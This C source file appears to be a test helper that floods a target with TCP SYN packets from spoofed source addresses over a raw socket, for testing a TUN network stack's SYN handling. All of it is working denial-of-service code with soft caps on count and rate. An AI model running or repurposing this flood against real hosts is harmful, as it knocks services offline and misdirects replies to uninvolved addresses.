/* synflood.c: the SYN flood of the TUN test test_synflood.py: COUNT SYNs at RATE per second
 * to DST:PORT from spoofed sources in SUBNET/16, through a raw socket (IP_HDRINCL), so that
 * every answer goes to an address nobody holds. Bounded in count and rate; run only inside
 * the test's own network namespace (run.sh makes it). Prints "sent N in S s" when done.
 *   synflood DST PORT SUBNET COUNT RATE      e.g. synflood 10.0.0.2 7 10.99.0.0 100000 3400 */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define MAX_COUNT 1000000UL
#define MAX_RATE  100000UL
#define PKT_LEN   (20 + 24) /* IPv4 header, TCP header with the MSS option */

static uint16_t csum_fold(uint32_t sum)
{
    while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
    return (uint16_t)~sum;
}

static uint32_t csum_add(uint32_t sum, const uint8_t *p, size_t n)
{
    for (size_t i = 0; i + 1 < n; i += 2) sum += (uint32_t)(p[i] << 8 | p[i + 1]);
    if (n & 1) sum += (uint32_t)p[n - 1] << 8;
    return sum;
}

static void put16(uint8_t *p, uint16_t v)
{
    p[0] = (uint8_t)(v >> 8), p[1] = (uint8_t)v;
}

static void put32(uint8_t *p, uint32_t v)
{
    put16(p, (uint16_t)(v >> 16)), put16(p + 2, (uint16_t)v);
}

static uint64_t rng = 0x9e3779b97f4a7c15ULL;
static uint32_t rnd(void)
{
    rng ^= rng << 13, rng ^= rng >> 7, rng ^= rng << 17; /* xorshift64 */
    return (uint32_t)(rng >> 16);
}

/* One SYN from a random host of the /16 and port, with a random ISN and MSS 1460. */
static void build(uint8_t *pkt, uint32_t subnet, uint32_t dst, uint16_t dport)
{
    uint32_t src = subnet | (rnd() & 0xffff);
    if ((src & 0xff) == 0 || (src & 0xff) == 255) src ^= 1;
    memset(pkt, 0, PKT_LEN);
    pkt[0] = 0x45;
    put16(pkt + 2, PKT_LEN);
    put16(pkt + 4, (uint16_t)rnd());
    pkt[8] = 64, pkt[9] = IPPROTO_TCP;
    put32(pkt + 12, src), put32(pkt + 16, dst);
    put16(pkt + 10, csum_fold(csum_add(0, pkt, 20)));
    uint8_t *t = pkt + 20;
    put16(t, (uint16_t)(1024 + rnd() % 64000)), put16(t + 2, dport);
    put32(t + 4, rnd());
    t[12] = 6 << 4, t[13] = 0x02; /* doff 6, SYN */
    put16(t + 14, 64240);
    t[20] = 2, t[21] = 4, put16(t + 22, 1460);
    uint8_t ph[12] = {0};
    memcpy(ph, pkt + 12, 8);
    ph[9] = IPPROTO_TCP, put16(ph + 10, 24);
    put16(t + 16, csum_fold(csum_add(csum_add(0, ph, 12), t, 24)));
}

static double now_s(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

int main(int argc, char **argv)
{
    struct in_addr dst, subnet;
    if (argc != 6 || inet_pton(AF_INET, argv[1], &dst) != 1 ||
        inet_pton(AF_INET, argv[3], &subnet) != 1) {
        fprintf(stderr, "usage: synflood DST PORT SUBNET COUNT RATE (e.g. synflood 10.0.0.2 7 "
                        "10.99.0.0 100000 3400)\n");
        return 2;
    }
    unsigned long port = strtoul(argv[2], NULL, 10), count = strtoul(argv[4], NULL, 10);
    unsigned long rate = strtoul(argv[5], NULL, 10);
    if (port == 0 || port > 65535 || count == 0 || count > MAX_COUNT || rate == 0 ||
        rate > MAX_RATE) {
        fprintf(stderr, "synflood: PORT 1..65535, COUNT 1..%lu, RATE 1..%lu per second\n",
                MAX_COUNT, MAX_RATE);
        return 2;
    }
    int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW); /* IPPROTO_RAW implies IP_HDRINCL */
    if (fd < 0) {
        fprintf(stderr, "synflood: raw socket: %s; run as root in a network namespace\n",
                strerror(errno));
        return 2;
    }
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_addr = dst};
    uint32_t net = ntohl(subnet.s_addr) & 0xffff0000u, d = ntohl(dst.s_addr);
    uint8_t pkt[PKT_LEN];
    double t0 = now_s();
    unsigned long sent = 0, errors = 0;
    while (sent < count) {
        /* as many as the rate allows by now, then a 1 ms nap */
        unsigned long due = (unsigned long)((now_s() - t0) * (double)rate) + 1;
        if (due > count) due = count;
        while (sent < due) {
            build(pkt, net, d, (uint16_t)port);
            if (sendto(fd, pkt, PKT_LEN, 0, (struct sockaddr *)&to, sizeof to) < 0) errors++;
            sent++;
        }
        struct timespec nap = {0, 1000000};
        nanosleep(&nap, NULL);
    }
    printf("sent %lu in %.2f s (%lu send errors)\n", sent, now_s() - t0, errors);
    close(fd);
    return 0;
}
